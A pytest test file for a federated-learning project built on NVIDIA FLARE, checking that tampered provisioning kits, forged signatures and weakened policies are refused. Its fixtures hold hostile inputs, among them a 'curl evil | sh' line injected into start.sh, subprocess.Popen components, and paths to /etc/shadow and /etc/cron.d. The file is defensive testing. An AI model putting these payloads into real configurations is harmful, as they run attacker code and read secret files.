"""Whoever runs provisioning leaves something out, weakens something, or adds something. No kit comes of it."""

import copy
import importlib.util
import json
import os
import shutil
from datetime import UTC, datetime
from pathlib import Path

import msgspec
import pytest
import yaml
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from nvflare.lighter.prov_utils import prepare_builders
from nvflare.lighter.provision import prepare_project
from nvflare.lighter.provisioner import Provisioner

from cordon import documents, signing, study
from cordon.errors import ConfigError, CordonError, SignatureError
from cordon.flare import packaging
from cordon.flare.kit import check_brokers, check_site_policy, load_kit, read_kit
from cordon.site import pin
from cordon.site.policy import Data, SitePolicy, UnsafePoc

NAMES = ("server", "hospital-a", "hospital-b")


@pytest.fixture(scope="module")
def project(repo_root, tmp_path_factory):
    """A small POC project: coordinator and two hospitals; cc_config is a copy that a test may spoil."""
    tree = yaml.safe_load((repo_root / "provisioning" / "project.poc.yml").read_text())
    tree["participants"] = [each for each in tree["participants"] if each["name"] in (*NAMES, "admin@cordon.example")]
    for each in tree["participants"]:
        if "cc_config" in each:
            each["cc_config"] = str(repo_root / "cc_config" / "software.yml")
    tree["builders"][3]["args"]["base"] = str(repo_root / "provisioning")
    return tree


@pytest.fixture
def spoilt(project, repo_root, tmp_path):
    """(project, folder of cc_config) to change at will."""
    project = copy.deepcopy(project)
    folder = shutil.copytree(repo_root / "cc_config", tmp_path / "cc_config")
    for each in project["participants"]:
        if "cc_config" in each:
            each["cc_config"] = str(folder / "software.yml")
    return project, folder


def _provision(project, workspace, mode="poc"):
    project = copy.deepcopy(project)
    return Provisioner(str(workspace), prepare_builders(project)).provision(prepare_project(project), mode=mode)


def _refused(project, workspace, capsys, mode="poc"):
    """What provisioning says when it stops; fails if anything that looks like a kit is left."""
    with pytest.raises(SystemExit) as caught:
        _provision(project, workspace, mode)
    assert caught.value.code not in (0, None)
    assert not list(Path(workspace).rglob("start.sh"))
    assert not list(Path(workspace).rglob("prod_*"))
    return capsys.readouterr().err


@pytest.fixture(scope="module")
def kits(project, tmp_path_factory):
    return Path(_provision(project, tmp_path_factory.mktemp("ws")).get_result_location())


def test_the_untouched_project_makes_kits(kits):
    loaded = {name: load_kit(kits / name, datetime.now(UTC)) for name in NAMES}
    assert {name: kit.name for name, kit in loaded.items()} == {name: name for name in NAMES}
    assert [kit.role for kit in loaded.values()].count("coordinator") == 1


@pytest.mark.parametrize("name", NAMES)
def test_a_participant_without_cc_config(spoilt, tmp_path, capsys, name):
    project, _ = spoilt
    for each in project["participants"]:
        if each["name"] == name:
            del each["cc_config"]
    assert f"participant {name}: no cc_config" in _refused(project, tmp_path / "ws", capsys)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (None, "cannot be read"),
        ("", "Expected `object`"),
        ("[1, 2", "not YAML"),
        ("\xff\xfe", "not UTF-8"),
        ("compute_env: mock\n", "compute_env"),
        ("compute_env: nowhere\n", "compute_env"),
    ],
)
def test_a_cc_config_that_cannot_be_used(spoilt, tmp_path, capsys, content, said):
    project, folder = spoilt
    path = folder / "software.yml"
    path.unlink()
    if content is not None:
        path.write_bytes(content.encode("latin-1"))
    message = _refused(project, tmp_path / "ws", capsys)
    assert str(path) in message
    assert said in message


def _change(path, **changes):
    tree = {**yaml.safe_load(path.read_text()), **changes}
    path.write_text(yaml.safe_dump({key: value for key, value in tree.items() if value != "absent"}))


@pytest.mark.parametrize(
    "changes",
    [
        {"cc_enabled": False},
        {"cc_attestation": "absent"},
        {"class_allow_list": "absent"},
        {"class_allow_list": []},
        {"cc_cpu_mechanism": "amd_sev_snp"},
        {"cc_attestation": {"policy": "policy/none.yml", "check_frequency": 2}},
        {"cc_attestation": {"policy": "policy/software.yml", "check_frequency": 1e9}},
    ],
)
def test_a_cc_config_that_says_too_little_or_too_much(spoilt, tmp_path, capsys, changes):
    project, folder = spoilt
    _change(folder / "software.yml", **changes)
    assert str(folder) in _refused(project, tmp_path / "ws", capsys)


@pytest.mark.parametrize(
    "entry",
    [
        "cordon.flare.",
        "cordon.flare",
        "cordon",
        "*",
        "",
        "cordon.flare.executors",
        "cordon.flare.executors.",
        "cordon.flare.executors.DPTrainExecutor.",
        "cordon.flare.executors.Path",  # merely imported there
        "cordon.flare.executors.Nothing",
        "cordon.flare.executors.load_job",
        "cordon.no_such_module.Thing",
        "subprocess.Popen ",
        "nvflare.",
    ],
)
def test_an_allow_list_entry_that_opens_more_than_one_class(spoilt, tmp_path, capsys, entry):
    project, folder = spoilt
    path = folder / "software.yml"
    _change(path, class_allow_list=[*yaml.safe_load(path.read_text())["class_allow_list"], entry])
    message = _refused(project, tmp_path / "ws", capsys)
    assert str(path) in message
    assert "class_allow_list" in message


def test_an_allow_list_without_our_classes(spoilt, tmp_path, capsys):
    project, folder = spoilt
    _change(folder / "software.yml", class_allow_list=["cordon.flare.executors.DPTrainExecutor"])
    assert "lacks cordon.flare.controllers.AsyncController" in _refused(project, tmp_path / "ws", capsys)


def test_an_attestation_policy_that_leaves_a_field_out(spoilt, tmp_path, capsys):
    project, folder = spoilt
    _change(folder / "policy" / "software.yml", gpu="absent")
    assert "missing required field `gpu`" in _refused(project, tmp_path / "ws", capsys)


def test_poc_profile_in_production_and_the_reverse(spoilt, tmp_path, capsys):
    project, folder = spoilt
    assert "does not fit this command" in _refused(project, tmp_path / "a", capsys, mode="normal")
    project["builders"][3]["args"]["profile"] = "production"
    assert "does not fit this command" in _refused(project, tmp_path / "b", capsys)
    # production with the one broker of a POC, whose keys this machine would make
    assert "in production each hospital runs its own" in _refused(project, tmp_path / "d", capsys, mode="normal")
    del project["builders"][3]["args"]["broker"]
    # production with the software profile
    message = _refused(project, tmp_path / "c", capsys, mode="normal")
    assert f"{folder / 'software.yml'}: evidence software does not fit profile production" in message


def test_builders_in_another_order(spoilt, tmp_path, capsys):
    project, _ = spoilt
    builders = project["builders"]
    for order, said in (
        ([0, 1, 2, 4, 3], "before SignatureBuilder"),
        ([0, 3, 1, 2, 4], "cannot be read"),
    ):
        project["builders"] = [builders[index] for index in order]
        assert said in _refused(project, tmp_path / f"ws{order[1]}", capsys)


def test_a_whole_project_as_if_each_packaged_its_own_kit(spoilt, tmp_path, capsys):
    """`distributed: true` looks at one kit only; the others would have neither CC manager nor policy."""
    project, folder = spoilt
    for each in project["participants"]:
        if "cc_config" in each:
            each["cc_config"] = str(folder / "hospital-snp-h100.yml")
    arguments = {"profile": "production", "distributed": True, "documents": str(tmp_path / "none")}
    project["builders"][3]["args"] = arguments
    assert "which would be a kit without attestation" in _refused(project, tmp_path / "a", capsys, mode="normal")
    project["participants"] = [each for each in project["participants"] if each["type"] != "client"]
    assert "none/study.yml: cannot be read" in _refused(project, tmp_path / "b", capsys, mode="normal")
    arguments["distributed"] = "yes"
    assert "distributed is true or false" in _refused(project, tmp_path / "c", capsys, mode="normal")


def test_a_relay_is_refused(spoilt, tmp_path, capsys):
    project, _ = spoilt
    relay = {
        "name": "relay-1",
        "type": "relay",
        "org": "x",
        "listening_host": {"default_host": "localhost", "port": 8102},
    }
    project["participants"].append(relay)
    assert "relays are not supported" in _refused(project, tmp_path / "ws", capsys)


# -- kits put together from parts ------------------------------------------------------------------------------------


def test_a_kit_of_another_project(project, kits, tmp_path):
    """Same names, another CA: documents of one project never start with certificates of another."""
    other = Path(_provision(project, tmp_path / "ws").get_result_location())
    for role, name in (("server", "server"), ("client", "hospital-a")):
        mixed = shutil.copytree(kits / name, tmp_path / name)
        for suffix in ("crt", "key"):
            shutil.copy(other / name / "startup" / f"{role}.{suffix}", mixed / "startup")
        with pytest.raises(ConfigError, match="kit of another project"):
            load_kit(mixed, datetime.now(UTC))


def test_a_hospital_that_nobody_agreed_to(kits, project, tmp_path):
    """The CA mints a certificate for one more site; the signed roster does not know it."""
    project = copy.deepcopy(project)
    for each in project["participants"]:
        if each["name"] == "hospital-b":
            each["name"] = "hospital-z"
    arguments = project["builders"][3]["args"]
    templates = shutil.copytree(Path(arguments["base"]) / "poc", tmp_path / "poc")
    (templates / "hospital-z.yml").write_text(
        (templates / "hospital-b.yml").read_text().replace("hospital-b", "hospital-z")
    )
    shutil.copy(templates / "mappings" / "hospital-b.yml", templates / "mappings" / "hospital-z.yml")
    arguments["documents"] = str(templates)
    extra = Path(_provision(project, tmp_path / "ws").get_result_location()) / "hospital-z"
    for name in ("study.yml", "study.yml.sig"):
        shutil.copy(kits / "hospital-a" / "local" / name, extra / "local")
    with pytest.raises(ConfigError, match="hospital-z is not a hospital of study"):
        load_kit(extra, datetime.now(UTC))


def test_a_study_contract_for_other_members_or_keys(kits, tmp_path):
    folder = kits.parent / "state" / "cordon_documents"
    now = datetime.now(UTC)
    agreed = study.load_signed(folder / "study.yml", now)
    certificates = {each.name: each.mtls_spki for each in (agreed.coordinator, *agreed.roster)}
    packaging.check_study(folder, "poc", "server", certificates, now)
    swapped = {**certificates, "hospital-a": certificates["server"]}
    for server, given, said in (
        ("server", {**certificates, "hospital-z": certificates["hospital-a"]}, "is between"),
        ("server", {name: key for name, key in certificates.items() if name != "hospital-b"}, "is between"),
        ("hospital-a", certificates, "is between"),
        ("server", swapped, "another mTLS key for hospital-a"),
    ):
        with pytest.raises(ConfigError, match=said):
            packaging.check_study(folder, "poc", server, given, now)
    with pytest.raises(ConfigError, match="profile poc"):
        packaging.check_study(folder, "production", "server", certificates, now)


@pytest.fixture
def handed_in(kits, tmp_path):
    """The hospitals' signed documents, to be tampered with on the way."""
    return shutil.copytree(kits.parent / "state" / "cordon_documents", tmp_path / "signed")


def _pack(folder, local, now):
    agreed = study.load_signed(folder / "study.yml", now)
    return packaging.pack_hospital(folder, folder / "attestation" / "software.yml", local, "hospital-a", agreed, now)


@pytest.mark.parametrize("name", ["study.yml", "hospital-a.yml", "attestation/software.yml", "mappings/hospital-a.yml"])
def test_documents_changed_or_unsigned_on_the_way(handed_in, tmp_path, name):
    now, local = datetime.now(UTC), tmp_path / "local"
    _pack(handed_in, local, now)
    path = handed_in / name
    original = path.read_text()
    path.write_text(original + "\n# eased\n")
    with pytest.raises(SignatureError, match=path.name):
        _pack(handed_in, local, now)
    path.write_text(original)
    documents.signature_path(path).unlink()
    with pytest.raises(SignatureError, match="not signed"):
        _pack(handed_in, local, now)


def test_documents_signed_by_the_provisioner(handed_in, tmp_path):
    """The provisioner signs an eased policy with a key of its own."""
    path = handed_in / "hospital-a.yml"
    path.write_text(path.read_text().replace("epsilon: 4.0", "epsilon: 40.0"))
    documents.signature_path(path).unlink()
    documents.sign_file(path, "cordon/site/v1", Ed25519PrivateKey.generate())
    with pytest.raises(SignatureError, match="signed by 0 trusted keys"):
        _pack(handed_in, tmp_path / "local", datetime.now(UTC))


@pytest.mark.parametrize("signature", ["of the old policy", "none", "of one hospital", "of a stranger"])
def test_a_coordinator_that_judges_hospitals_by_a_policy_of_its_own(kits, tmp_path, signature):
    """It could let anybody take part with them: so all of them sign the policy that decides it."""
    kit = shutil.copytree(kits / "server", tmp_path / "server")
    policy = kit / "local" / "attestation.yml"
    sig = policy.with_name("attestation.yml.sig")
    assert read_kit(kit, datetime.now(UTC))
    policy.write_text(policy.read_text().replace("max_age_s: 60", "max_age_s: 3600"))
    if signature != "of the old policy":
        sig.unlink()
    if signature == "of one hospital":
        (state,) = kits.parent.glob("state")
        key = signing.load_private_key((state / "cordon_keys" / "hospital-a.policy.key").read_bytes())
        documents.sign_file(policy, "cordon/attestation/v2", key)
    elif signature == "of a stranger":
        documents.sign_file(policy, "cordon/attestation/v2", Ed25519PrivateKey.generate())
    with pytest.raises(SignatureError, match=r"attestation\.yml"):
        read_kit(kit, datetime.now(UTC))


def test_a_policy_that_writes_outside_the_kit(handed_in, kits, tmp_path):
    key = signing.load_private_key((kits.parent / "state" / "cordon_keys" / "hospital-a.policy.key").read_bytes())
    path = handed_in / "hospital-a.yml"
    path.write_text(path.read_text().replace("policy: attestation.yml", "policy: ../startup/client.key"))
    documents.signature_path(path).unlink()
    documents.sign_file(path, "cordon/site/v1", key)
    with pytest.raises(CordonError, match="outside the kit"):
        _pack(handed_in, tmp_path / "local", datetime.now(UTC))


# -- everything signed anew, by the provisioner ----------------------------------------------------------------------


@pytest.fixture
def pinned(kits, tmp_path, monkeypatch):
    """The pin that hospital-a's officer made of the contract that the hospital signed."""
    agreed = read_kit(kits / "hospital-a", datetime.now(UTC)).study
    key = kits.parent / "state" / "cordon_keys" / "hospital-a.policy.key"
    own = signing.load_private_key(key.read_bytes()).public_key()
    path = tmp_path / "etc" / "pin.yml"
    path.parent.mkdir()
    path.write_text(yaml.safe_dump(documents.body_of(pin.make(agreed, "hospital-a", own))))
    monkeypatch.setenv("CORDON_PIN", str(path))
    return path


@pytest.fixture(scope="module")
def forged(project, tmp_path_factory):
    """Kits of the same study between the same names; every key in them is the provisioner's own."""
    return Path(_provision(project, tmp_path_factory.mktemp("forged")).get_result_location())


def test_a_study_signed_anew_does_not_start_at_a_hospital_that_pinned_its_own(kits, forged, pinned, monkeypatch):
    load_kit(kits / "hospital-a", datetime.now(UTC))
    read_kit(forged / "hospital-a", datetime.now(UTC))  # nothing in the kit itself shows it
    with pytest.raises(SignatureError, match=r"wants study contract .*; wants policy key .* for hospital-a"):
        load_kit(forged / "hospital-a", datetime.now(UTC))
    monkeypatch.delenv("CORDON_PIN")
    load_kit(forged / "hospital-a", datetime.now(UTC))  # POC and no pin: the provisioner is believed


def test_no_pin_can_be_made_of_a_study_signed_anew(kits, forged):
    agreed = read_kit(forged / "hospital-a", datetime.now(UTC)).study
    own = read_kit(kits / "hospital-a", datetime.now(UTC)).study.hospital("hospital-a").policy_key
    with pytest.raises(SignatureError, match="wants policy key"):
        pin.make(agreed, "hospital-a", own)


@pytest.mark.parametrize("document", ["cordon.yml", "attestation.yml"])
def test_a_policy_that_the_hospital_replaced_does_not_come_back(kits, pinned, tmp_path, document):
    """It is signed, but the pin names the newer one."""
    key = signing.load_private_key((kits.parent / "state" / "cordon_keys" / "hospital-a.policy.key").read_bytes())
    now, read = datetime.now(UTC), read_kit(kits / "hospital-a", datetime.now(UTC))
    made = pin.make(read.study, "hospital-a", key.public_key(), read.policy_digests)
    pinned.write_text(yaml.safe_dump(documents.body_of(made)))
    kit = shutil.copytree(kits / "hospital-a", tmp_path / "hospital-a")
    load_kit(kit, now)
    path = kit / "local" / document
    old = path.read_text()
    weaker = old.replace("epsilon: 4.0", "epsilon: 40.0").replace("lease_s: 120", "lease_s: 86400")
    assert weaker != old
    path.write_text(weaker)
    documents.signature_path(path).unlink()
    name = {"cordon.yml": "cordon/site/v1", "attestation.yml": "cordon/attestation/v2"}[document]
    documents.sign_file(path, name, key)
    read_kit(kit, now)  # nothing in the kit shows it
    with pytest.raises(SignatureError, match=r"pin\.yml: wants (site|attestation) policy"):
        load_kit(kit, now)


@pytest.mark.parametrize("through", ["file", "link"])
def test_the_provisioner_pins_its_own_study_inside_the_kit(forged, tmp_path, monkeypatch, through):
    kit = shutil.copytree(forged / "hospital-a", tmp_path / "hospital-a")
    agreed = read_kit(kit, datetime.now(UTC)).study
    own = pin.make(agreed, "hospital-a", agreed.hospital("hospital-a").policy_key)
    path = kit / "pin.yml"
    path.write_text(yaml.safe_dump(documents.body_of(own)))
    if through == "link":
        path = tmp_path / "pin.yml"
        path.symlink_to(kit / "pin.yml")
    monkeypatch.setenv("CORDON_PIN", str(path))
    with pytest.raises(ConfigError, match="a pin inside the kit pins nothing"):
        load_kit(kit, datetime.now(UTC))


def test_another_hospitals_kit_does_not_start_here(kits, pinned):
    with pytest.raises(SignatureError, match="is for hospital-a, this kit is of hospital-b"):
        load_kit(kits / "hospital-b", datetime.now(UTC))


@pytest.mark.parametrize(
    ("changes", "named"),
    [
        ({"unsafe_poc": UnsafePoc(flip_labels=True)}, "unsafe_poc is refused outside POC"),
        (
            {"data": Data(connector="csv", mapping="m", unsafe_source="../data/patients.csv"), "broker": None},
            "data.unsafe_source is refused outside POC",
        ),
    ],
    ids=["misbehaviour", "plain data"],
)
def test_unsafe_policy_in_a_production_study(kits, tmp_path, changes, named):
    """Patients outside a vault, for one, whose key no broker keeps."""
    agreed = read_kit(kits / "hospital-a", datetime.now(UTC)).study
    production = msgspec.structs.replace(agreed, profile="production")
    policy = documents.load(kits / "hospital-a" / "local" / "cordon.yml", SitePolicy)
    check_site_policy(policy, "hospital-a", production, tmp_path / "cordon.yml")
    unsafe = msgspec.structs.replace(policy, **changes)
    spki = agreed.hospital("hospital-a").broker_spki if unsafe.broker else None
    roster = tuple(msgspec.structs.replace(each, broker_spki=spki) for each in agreed.roster)
    poc = msgspec.structs.replace(agreed, roster=roster)
    check_site_policy(unsafe, "hospital-a", poc, tmp_path / "cordon.yml")
    with pytest.raises(ConfigError, match=named):
        check_site_policy(unsafe, "hospital-a", production, tmp_path / "cordon.yml")


def test_a_broker_that_the_hospitals_did_not_agree_on(kits, tmp_path):
    """Nobody could tell whether the leases and ledger heads of such a broker are the hospital's."""
    agreed = read_kit(kits / "hospital-a", datetime.now(UTC)).study
    roster = tuple(msgspec.structs.replace(each, broker_spki=None) for each in agreed.roster)
    policy = documents.load(kits / "hospital-a" / "local" / "cordon.yml", SitePolicy)
    without = msgspec.structs.replace(agreed, roster=roster)
    with pytest.raises(ConfigError, match="no broker_spki for hospital-a"):
        check_site_policy(policy, "hospital-a", without, tmp_path / "cordon.yml")
    data = msgspec.structs.replace(policy.data, vault=None, unsafe_source="data")
    plain = msgspec.structs.replace(policy, broker=None, data=data)
    check_site_policy(plain, "hospital-a", without, tmp_path / "cordon.yml")
    with pytest.raises(ConfigError, match="names no broker, and the study contract a broker_spki for hospital-a"):
        check_site_policy(plain, "hospital-a", agreed, tmp_path / "cordon.yml")


def test_a_production_study_in_which_a_hospital_has_no_key_broker(kits, tmp_path):
    """Its updates would count without a ledger head."""
    agreed = read_kit(kits / "hospital-a", datetime.now(UTC)).study
    roster = (msgspec.structs.replace(agreed.roster[0], broker_spki=None), *agreed.roster[1:])
    poc = msgspec.structs.replace(agreed, roster=roster)
    check_brokers(poc, tmp_path / "study.yml")
    check_brokers(msgspec.structs.replace(agreed, profile="production"), tmp_path / "study.yml")
    with pytest.raises(ConfigError, match=f"no broker_spki for {roster[0].name}; outside POC"):
        check_brokers(msgspec.structs.replace(poc, profile="production"), tmp_path / "study.yml")


def test_resources_of_the_site_cannot_be_widened_unseen(kits):
    """FLARE's signature over the kit covers the allow-list."""
    signed = json.loads((kits / "hospital-a" / "local" / "signature.json").read_text())
    assert {"resources.json.default", "app_deployer__p_resources.json", "authorization.json.default"} <= set(signed)


# -- FLARE's own files, which nobody signed who would count ----------------------------------------------------------

POPEN = {"id": "x", "path": "subprocess.Popen", "args": {"args": ["touch", "/tmp/pwned"]}}
EVIL = json.dumps({"components": [POPEN]})


@pytest.mark.parametrize("name", ["server", "hospital-a"])
@pytest.mark.parametrize(
    ("file", "content"),
    [
        *((f"local/{name}", EVIL) for name in ("x__p_resources.json", "x__j_resources.json", "x__resources.json")),
        *((f"startup/{name}", EVIL) for name in ("x__p_resources.json", "y__resources.json", "relay__resources.json")),
        ("local/job_resources.json", EVIL),
        ("local/resources.conf", EVIL),  # FLARE takes it before resources.json.default
        ("local/resources.yml", EVIL),
        ("local/collateral/resources.json", EVIL),  # and looks for it in sub-folders
        ("startup/deep/fed_client.json", "{}"),
        ("startup/fed_client.conf", "{}"),
        ("startup/fed_admin.json", "{}"),
        ("local/privacy.json", json.dumps({"scopes": [{"name": "x", "task_data_filters": [POPEN]}]})),
        ("local/comm_config.json", '{"comm_driver_path": "/tmp/drivers"}'),  # imports all that lies there
        ("comm_config.json", '{"comm_driver_path": "/tmp/drivers"}'),
        ("data/deep/comm_config.yml.default", "comm_driver_path: /tmp/drivers"),
        ("transfer/resources.json.default", '{"decomposer_module": "evil"}'),
        ("local/study_registry.json", "{}"),
        ("local/custom/evil.py", "x"),
        ("local/custom/decomposers/evil.py", "x"),
        ("startup/custom/evil.pyc", "x"),
        ("startup/azure_start.sh", "touch /tmp/pwned"),
        ("local/notes.txt", "x"),
        ("nvflare/__init__.py", "x"),  # job processes start in the kit
        ("json.py", "x"),
        ("google/protobuf.cpython-311-x86_64-linux-gnu.so", "x"),
    ],
)
def test_a_file_more_that_flare_or_python_would_act_on(kits, tmp_path, name, file, content):
    kit = shutil.copytree(kits / name, tmp_path / name)
    assert read_kit(kit, datetime.now(UTC))
    path = kit / file
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content)
    with pytest.raises(ConfigError) as caught:
        read_kit(kit, datetime.now(UTC))
    named = str(caught.value).split(":")[0]
    assert path.is_relative_to(named)  # the file, or the folder that no kit has
    assert named != str(kit)


def _into(*keys):
    """Set the last of ``keys`` to a value, in place."""

    def change(tree, value):
        for key in keys[:-1]:
            tree = tree[key]
        tree[keys[-1]] = value

    return change


def _append(*keys):
    def change(tree, value):
        for key in keys:
            tree = tree[key]
        tree.append(value)

    return change


FORMATTER = {"()": "subprocess.Popen", "args": ["touch", "/tmp/pwned"]}


@pytest.mark.parametrize(
    ("file", "change", "value"),
    [
        ("local/log_config.json.default", _into("formatters", "x"), FORMATTER),
        ("local/log_config.json.default", _into("formatters", "baseFormatter", "()"), "subprocess.Popen"),
        ("local/log_config.json.default", _into("handlers", "logFileHandler", "filename"), "/etc/cron.d/x"),
        ("local/log_config.json.default", _into("handlers", "consoleHandler", "stream"), "ext://os.system"),
        ("local/resources.json.default", _append("components"), POPEN),
        ("local/resources.json.default", _into("components", 0, "path"), "subprocess.Popen"),
        ("local/resources.json.default", _into("components", 0, "args", "num_of_gpus"), POPEN),
        ("local/resources.json.default", _into("class_allow_list"), ["*"]),
        ("local/resources.json.default", _append("class_allow_list"), "subprocess.Popen"),
        ("local/resources.json.default", _into("class_list_enforcement_mode"), "warn"),
        ("local/resources.json.default", _into("allow_log_streaming"), True),
        ("local/resources.json.default", _into("app_validator"), POPEN),
        ("local/resources.json.default", _into("snapshot_persistor"), POPEN),
        ("local/resources.json.default", _into("decomposer_module"), "evil"),
        ("local/cc_manager__p_resources.json", _append("components"), POPEN),
        ("local/cc_manager__p_resources.json", _into("components", 0, "path"), "logging.Handler"),
        ("local/cc_manager__p_resources.json", _into("components", 0, "args", "check_interval_s"), 1e9),
        ("local/cc_manager__p_resources.json", _into("components", 0, "args", "check_interval_s"), POPEN),
        ("local/app_deployer__p_resources.json", _into("components", 0, "path"), "cordon.flare.deployer.AppDeployer"),
        ("local/authorization.json.default", _into("permissions", "lead", "byoc"), "any"),
        ("local/authorization.json.default", _into("permissions", "member"), "any"),
        ("startup/fed_client.json", _into("components"), [POPEN]),
        ("startup/fed_client.json", _into("require_signed_jobs"), False),
        ("startup/fed_client.json", _into("relay_config"), {"address": "evil:1"}),
        ("startup/fed_client.json", _into("client", "connection_security"), "clear"),
        ("startup/fed_client.json", _into("client", "ssl_root_cert"), "/tmp/ca.pem"),
        ("startup/fed_client.json", _into("client", "fqsn"), "hospital-b"),
        ("startup/fed_client.json", _into("servers", 0, "identity"), "somebody"),
        ("startup/fed_client.json", _into("servers", 0, "service", "scheme"), "uds"),
        ("startup/fed_client.json", _into("servers", 0, "service", "target"), "a:1/../{x}"),
    ],
)
def test_a_changed_setting_of_a_hospital(kits, tmp_path, file, change, value):
    _refuses_the_change(kits / "hospital-a", tmp_path, file, change, value)


def _refuses_the_change(original, tmp_path, file, change, value):
    kit = shutil.copytree(original, tmp_path / original.name)
    path = kit / file
    tree = json.loads(path.read_text())
    change(tree, value)
    path.write_text(json.dumps(tree))
    with pytest.raises(ConfigError, match=f"^{path}: "):
        read_kit(kit, datetime.now(UTC))


@pytest.mark.parametrize(
    ("file", "change", "value"),
    [
        ("local/resources.json.default", _into("snapshot_persistor", "path"), "subprocess.Popen"),
        ("local/resources.json.default", _into("components", 1, "args", "uri_root"), POPEN),
        ("local/resources.json.default", _into("components", 1, "args", "uri_root"), "relative"),
        ("local/app_validator__p_resources.json", _into("app_validator", "path"), "logging.Handler"),
        ("startup/fed_server.json", _into("servers", 0, "ssl_private_key"), "/etc/shadow"),
        ("startup/fed_server.json", _into("servers", 0, "connection_security"), "tls"),
        ("startup/fed_server.json", _into("app_validator"), POPEN),
    ],
)
def test_a_changed_setting_of_the_coordinator(kits, tmp_path, file, change, value):
    _refuses_the_change(kits / "server", tmp_path, file, change, value)


@pytest.mark.parametrize(
    ("name", "file"),
    [
        ("server", "local/cc_manager__p_resources.json"),
        ("hospital-a", "local/cc_manager__p_resources.json"),
        ("hospital-a", "local/app_deployer__p_resources.json"),
        ("server", "local/app_validator__p_resources.json"),
        ("hospital-a", "local/authorization.json.default"),
        ("hospital-a", "local/resources.json.default"),
        ("hospital-a", "local/log_config.json.default"),
    ],
)
def test_a_file_less(kits, tmp_path, name, file):
    """Without them FLARE starts all the same: unattested, with no gate for jobs, everybody allowed everything."""
    kit = shutil.copytree(kits / name, tmp_path / name)
    (kit / file).unlink()
    with pytest.raises(ConfigError, match=f"{kit / file.removesuffix('.default')}: missing"):
        read_kit(kit, datetime.now(UTC))


@pytest.mark.parametrize("file", ["authorization.json", "log_config.json", "resources.json"])
def test_a_file_that_wins_over_the_default(kits, tmp_path, file):
    kit = shutil.copytree(kits / "hospital-a", tmp_path / "hospital-a")
    shutil.copy(kit / "local" / f"{file}.default", kit / "local" / file)
    assert read_kit(kit, datetime.now(UTC))
    (kit / "local" / file).write_text(EVIL)
    with pytest.raises(ConfigError, match=f"^{kit / 'local' / file}: "):
        read_kit(kit, datetime.now(UTC))


@pytest.mark.parametrize("script", ["start.sh", "sub_start.sh", "stop_fl.sh"])
def test_a_changed_script(kits, tmp_path, script):
    kit = shutil.copytree(kits / "hospital-a", tmp_path / "hospital-a")
    path = kit / "startup" / script
    path.write_text(path.read_text().replace("echo", "curl evil | sh; echo", 1) + "true\n")
    with pytest.raises(ConfigError, match=f"{script}: not the script"):
        read_kit(kit, datetime.now(UTC))


@pytest.mark.parametrize("what", ["file", "folder", "startup", "elsewhere", "pipe"])
def test_a_link_or_a_pipe_in_the_kit(kits, tmp_path, what):
    kit = shutil.copytree(kits / "hospital-a", tmp_path / "hospital-a")
    path = kit / "local" / "cordon.yml"
    if what == "file":
        path.rename(tmp_path / "cordon.yml")
        path.symlink_to(tmp_path / "cordon.yml")
    elif what == "folder":
        path = kit / "local" / "mappings"
        path.rename(tmp_path / "mappings")
        path.symlink_to(tmp_path / "mappings")
    elif what == "startup":
        path = kit / "startup"
        path.rename(tmp_path / "startup")
        path.symlink_to(tmp_path / "startup")
    elif what == "elsewhere":
        path = kit / "google"
        path.symlink_to(tmp_path)
    else:
        path = kit / "local" / "privacy.json.sample"
        path.unlink()
        os.mkfifo(path)
    with pytest.raises(ConfigError, match=f"^{path}: "):
        read_kit(kit, datetime.now(UTC))


def test_the_image_starts_nothing_of_such_a_kit(repo_root, kits, tmp_path, monkeypatch, capsys):
    spec = importlib.util.spec_from_file_location("cordon_entrypoint", repo_root / "docker" / "entrypoint.py")
    entrypoint = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(entrypoint)
    kit, workspace = shutil.copytree(kits / "hospital-a", tmp_path / "hospital-a"), tmp_path / "workspace"
    workspace.mkdir()
    started = []
    monkeypatch.setattr(entrypoint, "KIT", kit)
    monkeypatch.setattr(entrypoint, "WORKSPACE", workspace)
    monkeypatch.setattr(entrypoint.os, "execve", lambda *arguments: started.append(arguments))
    entrypoint.main(["start", "client"])
    ((_, arguments, _),) = started
    assert str(workspace) in arguments  # what is mounted may change now
    started.clear()
    for file in ("local/log_config.json", "local/x__p_resources.json"):
        (kit / file).write_text(EVIL)
        assert entrypoint.main(["start", "client"]) == 3
        assert f"{workspace / file}: " in capsys.readouterr().err
        (kit / file).unlink()
    (workspace / "os.py").write_text("")
    assert entrypoint.main(["start", "client"]) == 3
    assert not started
